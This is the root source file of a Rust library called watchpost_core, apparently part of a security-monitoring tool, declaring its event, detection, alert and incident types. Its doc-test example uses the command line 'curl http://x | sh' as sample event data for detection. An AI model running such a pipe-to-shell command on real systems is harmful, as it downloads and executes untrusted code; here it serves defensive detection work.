//! Watchpost's shared vocabulary: what every source produces ([`Event`]), what every detector
//! says ([`Detection`]), what people are told about ([`Alert`]) and what they work on
//! ([`Incident`]). Pure types with serde round-trips; no I/O.
//!
//! Field names follow the Elastic Common Schema (ECS) so that events from EVTX, auditd, the
//! agent and the HTTP middleware can be queried the same way. [`fields`] holds the one table
//! that maps Sigma/Sysmon field names onto them.
//!
//! ```
//! use watchpost_core::{Event, Severity};
//! let event = Event::from_json(serde_json::json!({
//!     "@timestamp": "2026-11-22T10:00:00Z",
//!     "host": {"name": "web-1"},
//!     "event": {"category": ["process"], "action": "exec", "module": "agent"},
//!     "process": {"pid": 4242, "command_line": "curl http://x | sh"}
//! })).unwrap();
//! assert_eq!(event.field("process.command_line").unwrap().to_string(), "curl http://x | sh");
//! assert!(Severity::Critical > Severity::High);
//! ```

pub mod action;
pub mod alert;
pub mod attack;
pub mod decision;
pub mod detection;
pub mod duration;
pub mod event;
pub mod fields;
pub mod hex;
pub mod hostname;
pub mod html;
pub mod incident;
pub mod net;
pub mod secret;
pub mod severity;
pub mod suppression;
pub mod time;

pub use action::{Action, ActionKind, ActionResult, ActionState, ActionStep, ActionTarget};
pub use alert::{Alert, AlertStatus, Fingerprint, StatusChange};
pub use attack::{AttackTags, Tactic};
pub use decision::{Decision, DecisionScope};
pub use detection::{Detection, Entity};
pub use event::{Event, EventError, EventMeta, FieldValue};
pub use hex::hex;
pub use hostname::{hostname, machine_id};
pub use incident::{ChainStep, Incident, IncidentStatus, Risk, RiskTerm, TimelineEntry};
pub use secret::Secret;
pub use severity::Severity;
pub use suppression::{Replay, Suppression, SuppressionState};
